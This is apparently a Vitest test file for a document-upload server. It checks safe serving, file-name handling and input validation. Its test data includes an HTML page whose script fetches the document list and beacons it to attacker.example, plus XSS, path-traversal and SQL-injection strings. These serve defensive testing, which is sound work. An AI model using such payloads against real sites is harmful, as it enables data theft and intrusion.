import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { getBuiltInProfile } from '@ragbridge/config-profiles';
import { createRuntime, type Runtime } from '@ragbridge/runtime';
import { writeSimplePdf } from '@ragbridge/testkit';
import { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseSse } from './__fixtures__/sse.js';
import { createAppContext } from './app-context.js';
import { createApp } from './app.js';
import { registerDocumentRoutes } from './routes/documents.js';
import { startServer } from './server.js';
import type { AppSettings } from './settings.js';
import {
  commitUpload,
  contentDisposition,
  MAX_FILES_PER_UPLOAD,
  MAX_STORED_NAME_BYTES,
  safeFileName,
  stageUpload,
} from './uploads.js';

const ADMIN = 'files-admin-token-4711';
const encoder = new TextEncoder();

let runtime: Runtime;
let app: Hono;
let dataDir: string;
let corpusDir: string;
let uploadDir: string;

function settings(): AppSettings {
  return {
    host: '127.0.0.1',
    port: 0,
    maxUploadBytes: 200 * 1024,
    maxConcurrentRequests: 4,
    requestTimeoutMs: 30_000,
    adminToken: ADMIN,
    rateLimitPerMinute: 100_000,
    uploadDir,
    corsOrigins: [],
  };
}

const deps = () => ({
  runtime,
  settings: settings(),
  publicDir: join(import.meta.dirname, '..', 'public'),
  pdfjsDir: dataDir,
  servableRoots: [corpusDir],
});

interface ListedDocument {
  id: string;
  name: string;
  title?: string;
  folder?: string;
  mediaType: string;
}

interface JobResult {
  event: string;
  report?: { added: string[]; updated: string[]; unchanged: string[]; failed: Array<{ file: string; code: string }> };
}

async function upload(
  files: Array<[name: string, bytes: Uint8Array | string]>,
  headers: Record<string, string> = {}
): Promise<Response> {
  const form = new FormData();
  for (const [name, bytes] of files)
    form.append('file', new File([typeof bytes === 'string' ? encoder.encode(bytes) : bytes], name));
  return app.request('/api/documents', { method: 'POST', body: form, headers });
}

async function followJob(response: Response): Promise<JobResult> {
  expect(response.status).toBe(202);
  const { job } = (await response.json()) as { job: string };
  const events = parseSse(await (await app.request(`/api/jobs/${job}`)).text());
  const end = events.find((e) => e.event === 'done' || e.event === 'error');
  if (!end) throw new Error(`the job ended without a result: ${JSON.stringify(events)}`);
  return { event: end.event, ...(JSON.parse(end.data) as Omit<JobResult, 'event'>) };
}

async function uploadAndIngest(
  name: string,
  bytes: Uint8Array | string,
  headers: Record<string, string> = {}
): Promise<JobResult> {
  return followJob(await upload([[name, bytes]], headers));
}

async function listed(): Promise<ListedDocument[]> {
  return ((await (await app.request('/api/documents')).json()) as { documents: ListedDocument[] }).documents;
}

/** Every file under the upload folder, relative to it. */
function filesUnder(folder: string): string[] {
  if (!existsSync(folder)) return [];
  return (
    readdirSync(folder, { recursive: true, withFileTypes: true }) as Array<{
      name: string;
      parentPath: string;
      isFile(): boolean;
    }>
  )
    .filter((e) => e.isFile())
    .map((e) => relative(folder, join(e.parentPath, e.name)))
    .sort();
}

/** The stored sources under the upload folder, relative to it. */
async function storedUploads(): Promise<string[]> {
  return (await runtime.pipeline.store.listDocuments())
    .map((d) => relative(uploadDir, d.source))
    .filter((p) => !p.startsWith('..'))
    .sort();
}

/** The name a `Content-Disposition` value gives in `filename*`. */
function extendedName(header: string | null): string {
  const encoded = /filename\*=UTF-8''([^;\s]+)/.exec(header ?? '')?.[1];
  if (encoded === undefined) throw new Error(`no filename* in ${header}`);
  return decodeURIComponent(encoded);
}

const pdf = (title: string, line: string) =>
  writeSimplePdf({ title, pages: [{ lines: [{ text: title, size: 18 }, line] }] });
const corruptPdf = new Uint8Array([
  ...encoder.encode('%PDF-1.7\n'),
  ...Array.from({ length: 2000 }, (_, i) => (i * 31) % 256),
]);

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'rb-demo-files-'));
  corpusDir = join(dataDir, 'corpus');
  uploadDir = join(dataDir, 'uploads');
  runtime = await createRuntime({
    config: getBuiltInProfile('offline'),
    env: {},
    baseDir: dataDir,
    storePath: join(dataDir, 'store.db'),
    ledgerPath: ':memory:',
  });
  app = createApp(deps());
}, 60_000);

afterAll(async () => {
  await runtime?.close();
});

describe('original files', () => {
  const attack = [
    '<html><head><meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<title>Release notes</title></head><body><h1>Release notes</h1>',
    '<script>fetch("/api/documents").then((r) => r.text()).then((t) => navigator.sendBeacon("https://attacker.example/", t))</script>',
    '<p>Version 2 adds the export command.</p></body></html>',
  ].join('');

  it('serves an uploaded HTML page as a plain-text download, never as text/html of this origin', async () => {
    expect((await uploadAndIngest('release-notes.html', attack)).report?.added).toEqual(['release-notes.html']);
    const doc = (await listed()).find((d) => d.name === 'release-notes.html');
    const file = await app.request(`/api/documents/${doc?.id as string}/file`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(file.headers.get('content-disposition')).toMatch(
      /^attachment; filename="release-notes\.html"; filename\*=UTF-8''release-notes\.html$/
    );
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    // The bytes are the user's, unchanged: only how the browser treats them differs.
    expect(await file.text()).toBe(attack);
  });

  it('serves Markdown and text as plain-text downloads and PDFs inline', async () => {
    await uploadAndIngest('guide.md', '# Guide\n\n<script>alert(1)</script> Use the export command.');
    await uploadAndIngest('notes.txt', 'Plain notes about the export command.');
    await uploadAndIngest('export.pdf', pdf('Export manual', 'The export command writes CSV.'));
    const docs = await listed();
    for (const name of ['guide.md', 'notes.txt']) {
      const file = await app.request(`/api/documents/${docs.find((d) => d.name === name)?.id as string}/file`);
      expect(file.headers.get('content-type'), name).toBe('text/plain; charset=utf-8');
      expect(file.headers.get('content-disposition'), name).toMatch(/^attachment;/);
    }
    const file = await app.request(`/api/documents/${docs.find((d) => d.name === 'export.pdf')?.id as string}/file`);
    expect(file.headers.get('content-type')).toBe('application/pdf');
    expect(file.headers.get('content-disposition')).toMatch(/^inline;/);
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('the document routes put a sandbox policy on every original', async () => {
    // The route module alone: the app's security headers wrap it (see the report on guards.ts).
    const routes = new Hono();
    registerDocumentRoutes(routes, createAppContext(deps()));
    const docs = await listed();
    for (const name of ['release-notes.html', 'export.pdf']) {
      const file = await routes.request(`/api/documents/${docs.find((d) => d.name === name)?.id as string}/file`);
      expect(file.status, name).toBe(200);
      expect(file.headers.get('content-security-policy'), name).toBe("sandbox; default-src 'none'");
    }
  });

  it('names any file in Content-Disposition: an ASCII fallback and the exact UTF-8 name', async () => {
    const names = [
      '設計書 第2版.md',
      '📄 notes 👍🏽.md',
      'say "hi".md',
      'back\\slash.md',
      'two\r\nlines.md',
      'tab\there.md',
      '100% ümlaut.md',
    ];
    mkdirSync(corpusDir, { recursive: true });
    for (const name of names)
      writeFileSync(join(corpusDir, name), `# ${name.replace(/\s+/g, ' ')}\n\nA corpus file with an unusual name.`);
    const report = await runtime.pipeline.ingest(names.map((n) => join(corpusDir, n)));
    expect(report.failed).toEqual([]);
    const docs = await listed();
    for (const name of names) {
      const doc = docs.find((d) => d.name === name);
      const file = await app.request(`/api/documents/${doc?.id as string}/file`);
      expect(file.status, name).toBe(200);
      const header = file.headers.get('content-disposition') ?? '';
      expect(header, name).toMatch(
        /^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[A-Za-z0-9%!#$&+\-.^_`|~]+$/
      );
      const fallback = /filename="(.*)"; /.exec(header)?.[1] ?? '';
      expect(fallback, name).not.toMatch(/["\\%]/);
      // The exact name, with only characters that cannot be in a saved name replaced.
      expect(extendedName(header), name).toBe(name.replace(/[\r\n\t\\]/g, '_'));
    }
  });

  it('keeps direction controls and lone surrogates out of the header', () => {
    const header = contentDisposition('attachment', 'invoice\u202Etxt.exe\uD800.md');
    expect(() => new Headers({ 'content-disposition': header })).not.toThrow();
    expect(extendedName(header)).toBe('invoice_txt.exe_.md');
    expect(contentDisposition('inline', 'café.pdf')).toBe(
      `inline; filename="cafe.pdf"; filename*=UTF-8''caf%C3%A9.pdf`
    );
    expect(contentDisposition('inline', "it's (final)*.pdf")).toBe(
      `inline; filename="it's (final)*.pdf"; filename*=UTF-8''it%27s%20%28final%29%2A.pdf`
    );
  });
});

describe('uploaded file names', () => {
  it('stores a very long CJK name under a capped name in a folder of its own, and serves it', async () => {
    const long = `${'設計書'.repeat(100)}.md`;
    expect(encoder.encode(long).length).toBeGreaterThan(255);
    const result = await uploadAndIngest(long, '# 設計\n\nThe design of the export command.');
    expect(result.event).toBe('done');
    const [added] = result.report?.added ?? [];
    expect(added).toMatch(/^(設計書)+設?計?\.md$/);
    expect(encoder.encode(added).length).toBeLessThanOrEqual(MAX_STORED_NAME_BYTES);
    const doc = (await listed()).find((d) => d.name === added);
    const file = await app.request(`/api/documents/${doc?.id as string}/file`);
    expect(file.status).toBe(200);
    expect(extendedName(file.headers.get('content-disposition'))).toBe(added);
    for (const path of filesUnder(uploadDir))
      for (const part of path.split('/'))
        expect(encoder.encode(part).length).toBeLessThanOrEqual(MAX_STORED_NAME_BYTES);
  });

  it('caps names by UTF-8 bytes on whole characters, keeping the extension', () => {
    const emoji = safeFileName(`${'👍🏽'.repeat(100)}.PDF`);
    expect(emoji.endsWith('.pdf')).toBe(true);
    expect(encoder.encode(emoji).length).toBeLessThanOrEqual(MAX_STORED_NAME_BYTES);
    // Whole grapheme clusters only: no lone surrogate, no thumb without its skin tone.
    expect(emoji.slice(0, -4)).toMatch(/^(👍🏽)+$/u);
    expect(safeFileName('नमस्ते दुनिया.md')).toBe('नमस्ते दुनिया.md');
    expect(safeFileName(`${'a'.repeat(300)}.markdown`)).toBe(`${'a'.repeat(MAX_STORED_NAME_BYTES - 9)}.markdown`);
  });
});

describe('uploads of a name already stored', () => {
  const adminHeaders = { authorization: `Bearer ${ADMIN}` };

  it('anyone else gets a separate document: the stored one keeps its content', async () => {
    await uploadAndIngest('policy.md', '# Policy\n\nRefunds take fourteen days.');
    const first = (await listed()).find((d) => d.name === 'policy.md');
    const second = await uploadAndIngest('policy.md', '# Policy\n\nRefunds are never given.');
    expect(second.report?.added).toEqual(['policy.md']);
    const both = (await listed()).filter((d) => d.name === 'policy.md');
    expect(both).toHaveLength(2);
    expect(both.map((d) => d.id)).toContain(first?.id);
    expect(new Set(both.map((d) => d.folder)).size).toBe(2);
    const text = JSON.stringify(await (await app.request(`/api/documents/${first?.id as string}/text`)).json());
    expect(text).toContain('fourteen days');
    expect(text).not.toContain('never given');
  });

  it('an admin replaces it: a new version of the same document', async () => {
    await uploadAndIngest('handbook.md', '# Handbook\n\nThe office opens at nine.');
    const before = (await listed()).find((d) => d.name === 'handbook.md');
    const result = await uploadAndIngest('handbook.md', '# Handbook\n\nThe office opens at eight.', adminHeaders);
    expect(result.report?.updated).toEqual(['handbook.md']);
    const after = (await listed()).filter((d) => d.name === 'handbook.md');
    expect(after.map((d) => d.id)).toEqual([before?.id]);
    const text = JSON.stringify(await (await app.request(`/api/documents/${before?.id as string}/text`)).json());
    expect(text).toContain('opens at eight');
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });

  it('a wrong token is refused, not taken for an anonymous upload; an ambiguous name asks the admin to choose', async () => {
    const count = (await listed()).length;
    const wrong = await upload([['handbook.md', '# Handbook\n\nClosed forever.']], {
      authorization: 'Bearer not-the-token',
    });
    expect(wrong.status).toBe(403);
    const ambiguous = await upload([['policy.md', '# Policy\n\nRefunds take a year.']], adminHeaders);
    expect(ambiguous.status).toBe(409);
    expect(((await ambiguous.json()) as { error: { code: string } }).error.code).toBe('ambiguous');
    expect((await listed()).length).toBe(count);
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });
});

describe('failed uploads', () => {
  it('an upload whose ingest fails leaves no file behind and the stored documents unchanged', async () => {
    const before = await runtime.pipeline.store.listDocuments();
    const result = await uploadAndIngest('broken.pdf', corruptPdf);
    expect(result.report?.failed).toEqual([expect.objectContaining({ file: 'broken.pdf', code: 'corrupt' })]);
    expect(await runtime.pipeline.store.listDocuments()).toEqual(before);
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });

  it('a failed replacement puts the earlier file back: the document and its file still agree', async () => {
    const original = pdf('Spec', 'The spec fixes the wire format.');
    await uploadAndIngest('spec.pdf', original);
    const doc = (await runtime.pipeline.store.listDocuments()).find((d) => d.name === 'spec.pdf');
    const result = await uploadAndIngest('spec.pdf', corruptPdf, { authorization: `Bearer ${ADMIN}` });
    expect(result.report?.failed).toEqual([expect.objectContaining({ file: 'spec.pdf', code: 'corrupt' })]);
    expect(await runtime.pipeline.store.getDocument(doc?.id as string)).toEqual(doc);
    expect(new Uint8Array(readFileSync(doc?.source as string))).toEqual(original);
    expect(filesUnder(uploadDir)).toEqual(await storedUploads());
  });
});

describe('client input on the document routes', () => {
  it('takes page numbers only as plain decimal numbers', async () => {
    const id = (await listed()).find((d) => d.name === 'export.pdf')?.id as string;
    for (const page of ['0x1', '1e0', '01', '+1', '1.0', '%201', '0', '-1', '12345678', 'one']) {
      const response = await app.request(`/api/documents/${id}/pages/${page}`);
      expect(response.status, page).toBe(400);
      expect(((await response.json()) as { error: { code: string } }).error.code, page).toBe('bad_request');
    }
    expect((await app.request(`/api/documents/${id}/pages/1`)).status).toBe(200);
    expect((await app.request(`/api/documents/${id}/pages/9999999`)).status).toBe(404);
  });

  it('answers odd ids with 404, never a server error', async () => {
    const ids = [
      '%00',
      '..%2F..%2Fetc%2Fpasswd',
      '%E0%A4%A',
      "x'%20OR%201=1--",
      '%F0%9F%93%84',
      'x'.repeat(20_000),
      '%25',
      '.',
      '..',
    ];
    for (const id of ids) {
      for (const suffix of ['', '/file', '/text', '/pages/1']) {
        const response = await app.request(`/api/documents/${id}${suffix}`);
        expect(response.status, `${id.slice(0, 30)}${suffix}`).toBeLessThan(500);
      }
    }
  });

  it('refuses malformed uploads with a 4xx and stores nothing', async () => {
    const before = await runtime.pipeline.store.listDocuments();
    const filesBefore = filesUnder(uploadDir);
    const form = (build: (f: FormData) => void) => {
      const f = new FormData();
      build(f);
      return f;
    };
    const attempts: Array<[string, RequestInit, number]> = [
      ['no file field', { body: form((f) => f.append('other', new File(['x'], 'a.md'))) }, 400],
      ['a text field named file', { body: form((f) => f.append('file', 'just text')) }, 400],
      ['JSON', { body: '{"file":"a.md"}', headers: { 'content-type': 'application/json' } }, 400],
      ['multipart without a boundary', { body: 'x', headers: { 'content-type': 'multipart/form-data' } }, 400],
      [
        'multipart that is not',
        { body: 'garbage', headers: { 'content-type': 'multipart/form-data; boundary=zzz' } },
        400,
      ],
      ['no content type', { body: 'x' }, 400],
      ['a zero-byte file', { body: form((f) => f.append('file', new File([], 'empty.md'))) }, 400],
      [
        'a file without a name (sent as a text field)',
        { body: form((f) => f.append('file', new File(['x'], ''))) },
        400,
      ],
      ['a name that is only an extension', { body: form((f) => f.append('file', new File(['x'], '.md'))) }, 415],
      [
        'too many files',
        {
          body: form((f) =>
            Array.from({ length: MAX_FILES_PER_UPLOAD + 1 }, (_, i) =>
              f.append('file', new File([`# ${i}`], `many-${i}.md`))
            )
          ),
        },
        400,
      ],
      [
        'a good file with a bad one',
        {
          body: form(
            (f) => (f.append('file', new File(['# ok'], 'good.md')), f.append('file', new File([], 'bad.md')))
          ),
        },
        400,
      ],
      [
        'a non-bearer authorization',
        { body: form((f) => f.append('file', new File([], 'x.md'))), headers: { authorization: 'Basic dXNlcjpwYXNz' } },
        400,
      ],
    ];
    for (const [what, init, status] of attempts) {
      const response = await app.request('/api/documents', { method: 'POST', ...init });
      expect(response.status, what).toBe(status);
      expect(((await response.json()) as { error: { message: string } }).error.message, what).toBeTruthy();
    }
    expect(await runtime.pipeline.store.listDocuments()).toEqual(before);
    expect(filesUnder(uploadDir)).toEqual(filesBefore);
  });
});

describe('the document list', () => {
  it('sorts names case-insensitively and tells apart documents of the same name by folder and title', async () => {
    for (const [path, text] of [
      ['apple.md', '# Apple\n\nFruit.'],
      ['Banana.md', '# Banana\n\nFruit.'],
      ['cherry.md', '# Cherry\n\nFruit.'],
      ['packages/alpha/README.md', '# Alpha package\n\nThe first package.'],
      ['packages/beta/README.md', '# Beta package\n\nThe second package.'],
    ] as const) {
      mkdirSync(join(corpusDir, path, '..'), { recursive: true });
      writeFileSync(join(corpusDir, path), text);
    }
    await runtime.pipeline.ingest([corpusDir]);
    const body = await (await app.request('/api/documents')).text();
    expect(body).not.toContain(dataDir);
    const docs = (JSON.parse(body) as { documents: ListedDocument[] }).documents;
    const names = docs.map((d) => d.name);
    expect(names.indexOf('apple.md')).toBeLessThan(names.indexOf('Banana.md'));
    expect(names.indexOf('Banana.md')).toBeLessThan(names.indexOf('cherry.md'));
    const readmes = docs.filter((d) => d.name === 'README.md').map((d) => ({ folder: d.folder, title: d.title }));
    expect(readmes).toEqual([
      { folder: 'packages/alpha', title: 'Alpha package' },
      { folder: 'packages/beta', title: 'Beta package' },
    ]);
    expect(docs.find((d) => d.name === 'apple.md')?.folder).toBe('');
  });
});

describe('start-up', () => {
  it('removes temporary and orphan files from the upload folder and puts back a file an interrupted replacement set aside', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rb-demo-startup-'));
    const start = () =>
      startServer({
        resolve: { profile: 'offline', env: { HOST: '127.0.0.1' }, cwd: dir },
        dataDir: dir,
        port: 0,
        sampleCorpus: false,
        log: () => undefined,
      });
    const uploads = join(dir, 'uploads');
    const first = await start();
    let keptSource: string;
    const kept = '# Kept\n\nThe stored version.';
    try {
      const staged = await stageUpload(uploads, 'kept.md', encoder.encode(kept));
      await commitUpload(staged);
      await first.runtime.pipeline.ingest([staged.target]);
      keptSource = staged.target;
      const stored = await first.runtime.pipeline.store.getDocumentBySource(keptSource);
      // Crashes: a replacement moved into place but never ingested, an upload never moved into place.
      await commitUpload(
        await stageUpload(uploads, 'kept.md', encoder.encode('# Kept\n\nA version never stored.'), stored)
      );
      await stageUpload(uploads, 'half.md', encoder.encode('# Half'));
      // Left-overs of earlier versions: a temporary file beside its target, a file whose ingest failed.
      writeFileSync(join(uploads, 'old.pdf.3f1c.part'), '%PDF-1.7');
      writeFileSync(join(uploads, 'failed.pdf'), corruptPdf);
      mkdirSync(join(uploads, 'abc123'));
      writeFileSync(join(uploads, 'abc123', 'orphan.txt'), 'nobody');
      writeFileSync(join(uploads, 'notes.json'), '{}');
    } finally {
      await first.close();
    }
    const second = await start();
    try {
      expect(filesUnder(uploads)).toEqual([relative(uploads, keptSource), 'notes.json']);
      expect(readFileSync(keptSource, 'utf8')).toBe(kept);
      expect(readdirSync(uploads).sort()).toEqual([relative(uploads, keptSource).split('/')[0], 'notes.json'].sort());
    } finally {
      await second.close();
    }
  }, 60_000);
});
